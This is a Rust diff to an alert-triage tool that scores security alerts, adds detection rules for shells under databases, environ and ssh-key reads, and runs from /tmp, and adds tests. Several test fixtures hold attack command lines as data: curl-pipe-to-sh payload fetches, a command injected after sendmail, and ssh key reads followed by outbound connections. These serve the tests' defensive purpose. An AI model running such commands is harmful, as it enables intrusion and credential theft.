+                Kind::Benign => sum / n as f64,
             };
-            let mut evidence = lang.t(s.evidence_en, s.evidence_ja);
-            if k < examined.len() {
+            let effect = weights.get(sid).copied().unwrap_or(0.0) * feature;
+            features.push((sid.to_string(), feature));
+            let v: Vec<(&str, &str)> = vars.iter().map(|(k, v)| (*k, v.as_str())).collect();
+            let mut evidence = signals::text(sid, lang, &v);
+            if k < n {
                 evidence.push_str(&lang.t(
-                    format!(" (in {k} of {} alerts)", examined.len()),
-                    format!("（{} 件中 {k} 件）", examined.len()),
+                    format!(" (in {k} of {n} alerts)"),
+                    format!("（{n} 件中 {k} 件）"),
                 ));
             }
-            let confirm = match lang {
-                Lang::En => s.confirm_en,
-                Lang::Ja => s.confirm_ja,
-            };
             reasons.push((
                 Reason {
-                    signal: s.signal.to_string(),
+                    signal: sid.to_string(),
                     evidence,
                     effect: round3(effect),
                 },
-                confirm,
-            ));
-        }
-        // History.
-        let p = self.history.prevalence(&c.id);
-        if p.real > 0 {
-            reasons.push((
-                Reason {
-                    signal: "history_decisions".into(),
-                    evidence: lang.t(
-                        format!("people marked {} past alert(s) of this cluster as real ({} as benign)", p.real, p.benign),
-                        format!("このクラスタの過去のアラートのうち {} 件が実際の攻撃と判断されています（正常と判断: {} 件）", p.real, p.benign),
-                    ),
-                    effect: -3.0,
-                },
-                Some(lang.t("why earlier alerts of this cluster were judged real".into(), "以前このクラスタが攻撃と判断された理由".into())),
-            ));
-        } else if p.benign > 0 {
-            let e = (1.0 + 0.5 * (1.0 + p.benign as f64).ln()).min(2.5);
-            reasons.push((
-                Reason {
-                    signal: "history_decisions".into(),
-                    evidence: lang.t(
-                        format!("people marked {} past alert(s) of this cluster as benign, none as real", p.benign),
-                        format!("このクラスタの過去のアラート {} 件が正常と判断され、攻撃と判断されたものはありません", p.benign),
-                    ),
-                    effect: round3(e),
-                },
-                None,
-            ));
-        } else if self.history.given && p.count >= 10 && (p.hosts >= 2 || p.span_s >= 86_400) {
-            reasons.push((
-                Reason {
-                    signal: "prevalence".into(),
-                    evidence: lang.t(
-                        format!("seen {} times before on {} host(s) and {} workload(s) over {:.1} days", p.count, p.hosts, p.workloads, p.span_s as f64 / 86_400.0),
-                        format!("過去に {} 回、{} ホスト・{} ワークロードで {:.1} 日にわたり発生しています", p.count, p.hosts, p.workloads, p.span_s as f64 / 86_400.0),
-                    ),
-                    effect: 0.6,
-                },
-                None,
-            ));
-        } else if self.history.given && p.count == 0 {
-            reasons.push((
-                Reason {
-                    signal: "prevalence".into(),
-                    evidence: lang.t(
-                        format!(
-                            "never seen before in the history ({} past alerts)",
-                            self.history.total
-                        ),
-                        format!(
-                            "履歴（過去のアラート {} 件）で初めて発生したクラスタです",
-                            self.history.total
-                        ),
-                    ),
-                    effect: -0.3,
-                },
-                None,
+                signals::confirm(sid, lang, &v),
             ));
         }
         let logit: f64 = reasons.iter().map(|(r, _)| r.effect).sum();
@@ -702,7 +855,7 @@ impl Triage<'_> {
                 }
             }
         }
-        let first = c.members.first().copied().unwrap_or(0);
+        let first = agg.members.first().copied().unwrap_or(0);
         let ev = records.get(first).map(|r| &r.event);
         if confirm.is_empty() {
             let cmd = ev
@@ -729,26 +882,25 @@ impl Triage<'_> {
             .take(2)
             .map(|r| r.evidence.as_str())
             .collect();
+        let alerts_n = agg.members.len();
         let summary = match lang {
             Lang::En => format!(
-                "{} (score {:.2}): {action}; {} alert(s) in this cluster. Main reasons: {}. The decision is yours: quell records it and learns from it.",
+                "{} (score {:.2}): {action}; {alerts_n} alert(s) in this cluster. Main reasons: {}. The score weighs the evidence quell saw; it is not a proof, and the decision is yours. To have a decision count next time, record it as \"quell.decision\": \"benign\" or \"real\" on the alerts you pass with --history.",
                 capitalise(verdict.text(lang)),
                 score,
-                c.members.len(),
                 if why.is_empty() { "no evidence either way".to_string() } else { why.join("; ") }
             ),
             Lang::Ja => format!(
-                "{}（スコア {:.2}）：{action}。このクラスタのアラートは {} 件です。主な理由：{}。最終判断は担当者が行います。quell はその判断を記録し、今後の判定に活かします。",
+                "{}（スコア {:.2}）：{action}。このクラスタのアラートは {alerts_n} 件です。主な理由：{}。スコアは quell が確認できた根拠の重み付けであり、証明ではありません。最終判断は担当者が行います。判断を次回に反映させるには、--history に渡すアラートに \"quell.decision\": \"benign\" または \"real\" を記録してください。",
                 verdict.text(lang),
                 score,
-                c.members.len(),
                 if why.is_empty() { "どちらとも判断できる根拠がありません".to_string() } else { why.join("／") }
             ),
         };
         ClusterReport {
             rule: rule.clone(),
-            cluster: c.id.clone(),
-            alerts: c.members.len(),
+            cluster: id,
+            alerts: alerts_n,
             verdict,
             score,
             reasons,
@@ -756,7 +908,8 @@ impl Triage<'_> {
             sample,
             summary,
             signature: c.signature.clone(),
-            members: c.members.clone(),
+            members: agg.members,
+            features,
         }
     }
 }
@@ -803,6 +956,31 @@ mod tests {
   condition: evt.type = execve and proc.name in (sh, bash) and proc.pname in (httpd, nginx)
   output: shell (shell=%proc.name parent=%proc.pname)
   priority: WARNING
+- rule: Run shell untrusted
+  desc: shell under a database or php
+  condition: evt.type = execve and proc.name in (sh, bash) and proc.pname in (postgres, php-fpm)
+  output: shell (shell=%proc.name parent=%proc.pname cmdline=%proc.cmdline)
+  priority: NOTICE
+- rule: Read environ
+  desc: process environments read
+  condition: evt.type = openat and fd.name glob /proc/*/environ
+  output: environ read (file=%fd.name process=%proc.name)
+  priority: WARNING
+- rule: Exec from tmp
+  desc: binary run from /tmp
+  condition: evt.type = execve and proc.exepath startswith /tmp/
+  output: exec from tmp (exe=%proc.exepath parent=%proc.pname)
+  priority: WARNING
+- rule: Read ssh
+  desc: ssh keys read
+  condition: evt.type = openat and fd.name contains /.ssh/
+  output: ssh read (file=%fd.name process=%proc.name)
+  priority: WARNING
+- rule: Terminal probe
+  desc: terminal helper
+  condition: evt.type = execve and proc.name = tput
+  output: tput (cmdline=%proc.cmdline)
+  priority: NOTICE
 "#;
 
     fn engine() -> Engine {
@@ -847,7 +1025,7 @@ mod tests {
         assert!(c.score >= FP_THRESHOLD);
         let sig: Vec<&str> = c.reasons.iter().map(|r| r.signal.as_str()).collect();
         assert!(
-            sig.contains(&"interactive_session") && sig.contains(&"target_sensitivity"),
+            sig.contains(&"interactive_session") && sig.contains(&"target_housekeeping"),
             "{sig:?}"
         );
         assert!(!c.confirm.is_empty());
@@ -913,13 +1091,14 @@ mod tests {
     fn history_decisions_move_the_score() {
         let e = engine();
         let recs = parse_records(&OPERATOR.join("\n"), "t").unwrap();
-        let alert = sample_alert(&e, "Clear Log Activities", &recs[1], "h");
-        let mut past = alert.clone();
+        // A past recording of the same behaviour (same lineage shape), decided real.
+        let mut past: Json = serde_json::from_str(OPERATOR[1]).unwrap();
         past["quell.decision"] = json!("real");
+        let _ = &recs;
         let hist_recs = parse_records(&past.to_string(), "hist").unwrap();
         let hist = History::build(&e, &hist_recs);
         let r = run(OPERATOR, Lang::En, &hist);
-        assert_eq!(r[0].reasons[0].signal, "history_decisions");
+        assert_eq!(r[0].reasons[0].signal, "history_real");
         assert!(r[0].score < 0.5, "{:?}", r[0]);
         // A never-seen cluster with history given is nudged toward real.
         let other = parse_records(r#"{"rule":"Clear Log Activities","output_fields":{"proc.name":"x","fs.path.name":"/var/log/other"}}"#, "h").unwrap();
@@ -928,7 +1107,7 @@ mod tests {
         assert!(r2[0]
             .reasons
             .iter()
-            .any(|r| r.signal == "prevalence" && r.effect < 0.0));
+            .any(|r| r.signal == "prevalence_new" && r.effect < 0.0));
     }
 
     #[test]
@@ -942,5 +1121,374 @@ mod tests {
         );
         assert_eq!(r[0].verdict, Verdict::Uncertain);
         assert_eq!(r[0].score, 0.5);
+    }
+
+    fn verdict_of(lines: &[String], rule: &str) -> Vec<ClusterReport> {
+        let refs: Vec<&str> = lines.iter().map(String::as_str).collect();
+        run(&refs, Lang::En, &History::empty())
+            .into_iter()
+            .filter(|c| c.rule == rule)
+            .collect()
+    }
+
+    fn l(v: serde_json::Value) -> String {
+        v.to_string()
+    }
+
+    fn signals(c: &ClusterReport) -> Vec<&str> {
+        c.reasons.iter().map(|r| r.signal.as_str()).collect()
+    }
+
+    /// An attacker's exec into a production pod: a tty through the runtime, then a payload
+    /// fetched and run, then a log deleted. Not a person's quiet session.
+    #[test]
+    fn attacker_exec_into_a_pod_is_not_a_false_positive() {
+        let base = json!({"proc.sid":300,"container.id":"abc123abc123","container.image.repository":"shop/web","proc.tty":34817,"evt.rawres":0});
+        let mk = |extra: serde_json::Value| {
+            let mut v = base.clone();
+            for (k, x) in extra.as_object().unwrap() {
+                v[k] = x.clone();
+            }
+            l(v)
+        };
+        let lines = vec![
+            mk(
+                json!({"evt.type":"execve","evt.rawtime":100,"proc.name":"bash","proc.pname":"runc"}),
+            ),
+            mk(
+                json!({"evt.type":"execve","evt.rawtime":110,"proc.name":"curl","proc.pname":"bash","proc.aname[2]":"runc","proc.cmdline":"curl -so /tmp/k http://203.0.113.7/k"}),
+            ),
+            mk(
+                json!({"evt.type":"execve","evt.rawtime":120,"proc.name":"k","proc.exepath":"/tmp/k","proc.pname":"bash","proc.aname[2]":"runc"}),
+            ),
+            mk(
+                json!({"evt.type":"unlinkat","evt.rawtime":130,"proc.name":"rm","proc.exepath":"/usr/bin/rm","proc.pname":"bash","proc.aname[2]":"runc","fs.path.name":"/var/log/dpkg.log"}),
+            ),
+        ];
+        let r = verdict_of(&lines, "Clear Log Activities");
+        assert_eq!(r.len(), 1);
+        assert_ne!(r[0].verdict, Verdict::LikelyFalsePositive, "{:#?}", r[0]);
+        assert!(
+            !signals(&r[0]).contains(&"interactive_session"),
+            "{:?}",
+            signals(&r[0])
+        );
+        assert!(signals(&r[0]).contains(&"session_download"));
+    }
+
+    /// A reverse shell at a pty: the terminal is real but stdin is a socket.
+    #[test]
+    fn reverse_shell_at_a_pty_is_not_a_false_positive() {
+        let lines = vec![l(
+            json!({"evt.type":"unlinkat","evt.rawres":0,"proc.sid":301,"evt.rawtime":5,"proc.name":"rm","proc.exepath":"/usr/bin/rm","proc.tty":34818,"proc.pname":"bash","proc.aname[2]":"sshd","proc.stdin_type":"ipv4","fs.path.name":"/var/log/dpkg.log"}),
+        )];
+        let r = verdict_of(&lines, "Clear Log Activities");
+        assert_ne!(r[0].verdict, Verdict::LikelyFalsePositive, "{:#?}", r[0]);
+        assert!(signals(&r[0]).contains(&"network_stdio"));
+        assert!(!signals(&r[0]).contains(&"interactive_session"));
+    }
+
+    /// A service account logging in over ssh and fetching a payload.
+    #[test]
+    fn service_account_login_with_a_payload_is_not_a_false_positive() {
+        let u = json!({"proc.sid":302,"user.name":"www-data","user.uid":33,"user.loginuid":33,"proc.tty":34819,"evt.rawres":0});
+        let mk = |extra: serde_json::Value| {
+            let mut v = u.clone();
+            for (k, x) in extra.as_object().unwrap() {
+                v[k] = x.clone();
+            }
+            l(v)
+        };
+        let lines = vec![
+            mk(
+                json!({"evt.type":"execve","evt.rawtime":10,"proc.name":"wget","proc.pname":"bash","proc.aname[2]":"sshd","proc.cmdline":"wget http://198.51.100.4/x.tgz"}),
+            ),
+            mk(
+                json!({"evt.type":"unlinkat","evt.rawtime":20,"proc.name":"rm","proc.exepath":"/usr/bin/rm","proc.pname":"bash","proc.aname[2]":"sshd","fs.path.name":"/var/log/dpkg.log"}),
+            ),
+        ];
+        let r = verdict_of(&lines, "Clear Log Activities");
+        assert_ne!(r[0].verdict, Verdict::LikelyFalsePositive, "{:#?}", r[0]);
+        let s = signals(&r[0]);
+        assert!(
+            s.contains(&"system_account_terminal") && s.contains(&"session_download"),
+            "{s:?}"
+        );
+    }
+
+    /// A web worker reading process environments through a shell.
+    #[test]
+    fn web_worker_reading_environments_is_not_a_false_positive() {
+        let lines = vec![l(
+            json!({"evt.type":"openat","evt.rawres":3,"proc.sid":303,"evt.rawtime":5,"proc.name":"cat","proc.aname[1]":"sh","proc.aname[2]":"php-fpm","user.name":"www-data","user.uid":33,"fd.name":"/proc/1/environ"}),
+        )];
+        let r = verdict_of(&lines, "Read environ");
+        assert_eq!(r[0].verdict, Verdict::LikelyReal, "{:#?}", r[0]);
+    }
+
+    /// A database's own archive command through a shell: not likely real; an injected
+    /// command under the same database still is.
+    #[test]
+    fn database_archive_command_is_not_likely_real() {
+        let ok = vec![l(
+            json!({"evt.type":"execve","evt.rawres":0,"proc.sid":304,"evt.rawtime":5,"proc.name":"sh","proc.pname":"postgres","user.name":"postgres","user.uid":999,"proc.cmdline":"sh -c test ! -f /mnt/archive/0000000100000000000000A1 && cp pg_wal/0000000100000000000000A1 /mnt/archive/0000000100000000000000A1"}),
+        )];
+        let r = verdict_of(&ok, "Run shell untrusted");
+        assert_ne!(r[0].verdict, Verdict::LikelyReal, "{:#?}", r[0]);
+        assert!(signals(&r[0]).contains(&"known_benign"));
+        let bad = vec![l(
+            json!({"evt.type":"execve","evt.rawres":0,"proc.sid":305,"evt.rawtime":5,"proc.name":"sh","proc.pname":"postgres","user.name":"postgres","user.uid":999,"proc.cmdline":"sh -c curl -s http://203.0.113.9/pg_wal/x | sh"}),
+        )];
+        let r = verdict_of(&bad, "Run shell untrusted");
+        assert!(!signals(&r[0]).contains(&"known_benign"), "{:#?}", r[0]);
+        assert_ne!(r[0].verdict, Verdict::LikelyFalsePositive);
+    }
+
+    /// A web application sending mail: `sh -c sendmail` under php-fpm.
+    #[test]
+    fn web_app_mail_is_not_likely_real() {
+        let ok = vec![l(
+            json!({"evt.type":"execve","evt.rawres":0,"proc.sid":306,"evt.rawtime":5,"proc.name":"sh","proc.pname":"php-fpm","proc.cmdline":"sh -c /usr/sbin/sendmail -t -i"}),
+        )];
+        let r = verdict_of(&ok, "Run shell untrusted");
+        assert_ne!(r[0].verdict, Verdict::LikelyReal, "{:#?}", r[0]);
+        let bad = vec![l(
+            json!({"evt.type":"execve","evt.rawres":0,"proc.sid":307,"evt.rawtime":5,"proc.name":"sh","proc.pname":"php-fpm","proc.cmdline":"sh -c sendmail x; cat /etc/passwd"}),
+        )];
+        let r = verdict_of(&bad, "Run shell untrusted");
+        assert_eq!(r[0].verdict, Verdict::LikelyReal, "{:#?}", r[0]);
+    }
+
+    /// A build tool running the binary it just linked in a temp directory.
+    #[test]
+    fn build_tool_generated_binary_is_not_likely_real() {
+        let lines = vec![
+            l(
+                json!({"evt.type":"openat","evt.rawres":4,"evt.is_open_write":true,"fd.num":4,"proc.sid":308,"evt.rawtime":5,"proc.name":"link","proc.pname":"go","fd.name":"/tmp/go-build2291/b001/exe/main"}),
+            ),
+            l(
+                json!({"evt.type":"execve","evt.rawres":0,"proc.sid":308,"evt.rawtime":6,"proc.name":"main","proc.exepath":"/tmp/go-build2291/b001/exe/main","proc.pname":"go","proc.aname[2]":"bash"}),
+            ),
+        ];
+        let r = verdict_of(&lines, "Exec from tmp");
+        assert_ne!(r[0].verdict, Verdict::LikelyReal, "{:#?}", r[0]);
+        assert!(!signals(&r[0]).contains(&"dropped_binary"));
+        // The same path written by curl is dropped.
+        let lines = vec![
+            l(
+                json!({"evt.type":"execve","evt.rawres":0,"proc.sid":309,"evt.rawtime":4,"proc.name":"curl","proc.pname":"sh","proc.cmdline":"curl -o /tmp/x/main http://203.0.113.5/m"}),
+            ),
+            l(
+                json!({"evt.type":"execve","evt.rawres":0,"proc.sid":309,"evt.rawtime":6,"proc.name":"main","proc.exepath":"/tmp/x/main","proc.pname":"sh"}),
+            ),
+        ];
+        let r = verdict_of(&lines, "Exec from tmp");
+        assert_eq!(r[0].verdict, Verdict::LikelyReal, "{:#?}", r[0]);
+    }
+
+    /// A terminal helper probing the terminal in a person's session.
+    #[test]
+    fn terminal_probe_is_not_likely_real() {
+        let lines = vec![l(
+            json!({"evt.type":"execve","evt.rawres":0,"proc.sid":310,"evt.rawtime":5,"proc.name":"tput","proc.cmdline":"tput cols","proc.tty":34820,"proc.pname":"bash","proc.aname[2]":"sshd"}),
+        )];
+        let r = verdict_of(&lines, "Terminal probe");
+        assert_eq!(r[0].verdict, Verdict::LikelyFalsePositive, "{:#?}", r[0]);
+    }
+
+    /// A piped exec through the runtime (no tty) is not a person's session.
+    #[test]
+    fn piped_runtime_exec_is_not_interactive() {
+        let lines = vec![l(
+            json!({"evt.type":"unlinkat","evt.rawres":0,"proc.sid":311,"evt.rawtime":5,"proc.name":"rm","proc.exepath":"/usr/bin/rm","proc.tty":0,"proc.pname":"sh","proc.aname[2]":"runc","fs.path.name":"/var/log/dpkg.log"}),
+        )];
+        let r = verdict_of(&lines, "Clear Log Activities");
+        assert!(
+            !signals(&r[0]).contains(&"interactive_session"),
+            "{:#?}",
+            r[0]
+        );
+        assert_ne!(r[0].verdict, Verdict::LikelyFalsePositive);
+    }
+
+    /// The same deletion by the same binary with the same lineage shape, once by an
+    /// operator and once after a download: one signature, two verdicts, two clusters.
+    #[test]
+    fn mixed_cluster_is_split_by_verdict() {
+        let op = |sid: i64, t: i64| {
+            l(
+                json!({"evt.type":"unlinkat","evt.rawres":0,"proc.sid":sid,"evt.rawtime":t,"proc.name":"rm","proc.exepath":"/usr/bin/rm","proc.tty":34816,"proc.pname":"bash","proc.aname[2]":"sshd","fs.path.name":"/var/log/dpkg.log"}),
+            )
+        };
+        let lines = vec![
+            l(
+                json!({"evt.type":"execve","evt.rawres":0,"proc.sid":400,"evt.rawtime":1,"proc.name":"bash","proc.tty":34816,"proc.pname":"sshd"}),
+            ),
+            op(400, 2),
+            l(
+                json!({"evt.type":"execve","evt.rawres":0,"proc.sid":401,"evt.rawtime":1,"proc.name":"curl","proc.cmdline":"curl -o /tmp/p http://203.0.113.1/p","proc.tty":34816,"proc.pname":"bash","proc.aname[2]":"sshd"}),
+            ),
+            op(401, 2),
+        ];
+        let r = verdict_of(&lines, "Clear Log Activities");
+        assert_eq!(r.len(), 2, "{r:#?}");
+        assert_ne!(r[0].verdict, r[1].verdict);
+        assert_ne!(r[0].cluster, r[1].cluster);
+        assert_eq!(r[0].signature, r[1].signature);
+        assert_eq!(r[0].members, vec![1]);
+        assert_eq!(r[1].members, vec![3]);
+        // A download in the session cancels the person's session.
+        assert!(signals(&r[0]).contains(&"interactive_session"));
+        assert!(
+            !signals(&r[1]).contains(&"interactive_session"),
+            "{:#?}",
+            r[1]
+        );
+        assert!(r.iter().all(|c| c.cluster.len() == 12));
+        // Ids are stable: the same input gives the same ids.
+        let again = verdict_of(&lines, "Clear Log Activities");
+        assert_eq!(again[0].cluster, r[0].cluster);
+        assert_eq!(again[1].cluster, r[1].cluster);
+    }
+
+    /// Two alerts of one person's quiet session do not count against each other, and a
+    /// session quell did not see (bare alerts) is never called quiet.
+    #[test]
+    fn a_benign_sessions_alerts_do_not_count_against_each_other() {
+        let lines = [
+            l(
+                json!({"evt.type":"execve","evt.rawres":0,"proc.sid":500,"evt.rawtime":1,"proc.name":"bash","proc.tty":34816,"proc.pname":"sshd"}),
+            ),
+            l(
+                json!({"evt.type":"execve","evt.rawres":0,"proc.sid":500,"evt.rawtime":2,"proc.name":"tput","proc.cmdline":"tput cols","proc.tty":34816,"proc.pname":"bash","proc.aname[2]":"sshd"}),
+            ),
+            l(
+                json!({"evt.type":"unlinkat","evt.rawres":0,"proc.sid":500,"evt.rawtime":3,"proc.name":"rm","proc.exepath":"/usr/bin/rm","proc.tty":34816,"proc.pname":"bash","proc.aname[2]":"sshd","fs.path.name":"/var/log/dpkg.log"}),
+            ),
+        ];
+        let refs: Vec<&str> = lines.iter().map(String::as_str).collect();
+        let all = run(&refs, Lang::En, &History::empty());
+        assert_eq!(all.len(), 2, "{all:#?}");
+        for c in &all {
+            assert!(!signals(c).contains(&"session_other_alerts"), "{c:#?}");
+        }
+        assert!(
+            all.iter()
+                .all(|c| c.verdict == Verdict::LikelyFalsePositive),
+            "{all:#?}"
+        );
+        let op = run(OPERATOR, Lang::En, &History::empty());
+        assert!(signals(&op[0]).contains(&"session_quiet"), "{:#?}", op[0]);
+        let bare = [
+            r#"{"rule":"Clear Log Activities","output_fields":{"proc.name":"rm","proc.tty":34816,"proc.pname":"bash","proc.aname[2]":"sshd","fs.path.name":"/var/log/dpkg.log","proc.sid":9}}"#,
+        ];
+        let r = run(&bare, Lang::En, &History::empty());
+        assert!(!signals(&r[0]).contains(&"session_quiet"), "{:#?}", r[0]);
+    }
+
+    /// Fitted weights change the score; the table's weights are the default.
+    #[test]
+    fn weights_come_from_the_table() {
+        let r = run(OPERATOR, Lang::En, &History::empty());
+        let mut w = signals::table().weights();
+        let base: f64 = r[0].features.iter().map(|(id, f)| w[id.as_str()] * f).sum();
+        assert!(
+            (sigmoid(base) - r[0].score).abs() < 0.002,
+            "{base} {}",
+            r[0].score
+        );
+        w.insert("interactive_session".into(), 0.0);
+        let e = engine();
+        let recs = parse_records(&OPERATOR.join("\n"), "t").unwrap();
+        let cat = Catalogue::builtin();
+        let h = History::empty();
+        let t = Triage {
+            engine: &e,
+            catalogue: &cat,
+            history: &h,
+            lang: Lang::En,
+            hostname: "h",
+        };
+        let r2 = t.run_with(&recs, &w, &mut |_, _| {});
+        assert!(r2[0].score < r[0].score);
+    }
+
+    /// The streaming form gives the same reports as `run`, with members as input indices.
+    #[test]
+    fn stream_matches_run() {
+        let mut lines: Vec<&str> = Vec::new();
+        lines.extend(OPERATOR);
+        lines.push(r#"{"evt.type":"close","proc.sid":50,"evt.rawtime":150,"proc.name":"bash"}"#);
+        lines.extend(ATTACK);
+        let e = engine();
+        let recs = parse_records(&lines.join("\n"), "t").unwrap();
+        let cat = Catalogue::builtin();
+        let h = History::empty();
+        let t = Triage {
+            engine: &e,
+            catalogue: &cat,
+            history: &h,
+            lang: Lang::En,
+            hostname: "h",
+        };
+        let a = t.run(&recs);
+        let mut st = t.stream();
+        for r in recs.iter().cloned() {
+            st.push(r);
+        }
+        assert_eq!(st.pushed(), recs.len());
+        let b = st.finish(&signals::table().weights(), &mut |_, _| {});
+        assert_eq!(a.len(), b.len());
+        for (x, y) in a.iter().zip(&b) {
+            assert_eq!(
+                (&x.cluster, x.verdict, x.score, &x.members),
+                (&y.cluster, y.verdict, y.score, &y.members)
+            );
+            assert_eq!(x.summary, y.summary);
+        }
+    }
+
+    /// A backup agent reading keys by design is not weighed down by them; `cat` reading the
+    /// same key then connecting out from a shell is.
+    #[test]
+    fn backup_agent_reading_keys_is_not_a_stealer() {
+        let agent = vec![
+            l(
+                json!({"evt.type":"execve","evt.rawres":0,"proc.sid":600,"evt.rawtime":4,"proc.name":"restic","proc.pname":"sh","proc.aname[2]":"cron","proc.cmdline":"restic backup /home"}),
+            ),
+            l(
+                json!({"evt.type":"openat","evt.rawres":3,"evt.is_open_read":true,"fd.num":3,"proc.sid":600,"evt.rawtime":5,"proc.name":"restic","proc.pname":"sh","proc.aname[2]":"cron","fd.name":"/home/ops/.ssh/id_ed25519"}),
+            ),
+            l(
+                json!({"evt.type":"connect","evt.rawres":0,"proc.sid":600,"evt.rawtime":6,"proc.name":"restic","fd.name":"10.0.0.5:40000->203.0.113.20:9000"}),
+            ),
+        ];
+        let r = verdict_of(&agent, "Read ssh");
+        assert_eq!(r[0].verdict, Verdict::LikelyFalsePositive, "{:#?}", r[0]);
+        let s = signals(&r[0]);
+        assert!(
+            !s.contains(&"target_sensitive")
+                && !s.contains(&"session_outbound")
+                && !s.contains(&"session_credentials"),
+            "{s:?}"
+        );
+        // The agent's alert alone (no other event of its run seen): not likely real.
+        let r = verdict_of(&agent[1..], "Read ssh");
+        assert_ne!(r[0].verdict, Verdict::LikelyReal, "{:#?}", r[0]);
+        let thief = vec![
+            l(
+                json!({"evt.type":"openat","evt.rawres":3,"evt.is_open_read":true,"fd.num":3,"proc.sid":601,"evt.rawtime":5,"proc.name":"cat","proc.pname":"sh","proc.aname[2]":"cron","fd.name":"/home/ops/.ssh/id_ed25519"}),
+            ),
+            l(
+                json!({"evt.type":"connect","evt.rawres":0,"proc.sid":601,"evt.rawtime":6,"proc.name":"sh","fd.name":"10.0.0.5:40000->203.0.113.20:4444"}),
+            ),
+        ];
+        let r = verdict_of(&thief, "Read ssh");
+        assert_eq!(r[0].verdict, Verdict::LikelyReal, "{:#?}", r[0]);
+        let s = signals(&r[0]);
+        assert!(
+            s.contains(&"target_sensitive") && s.contains(&"session_outbound"),
+            "{s:?}"
+        );
     }
 }
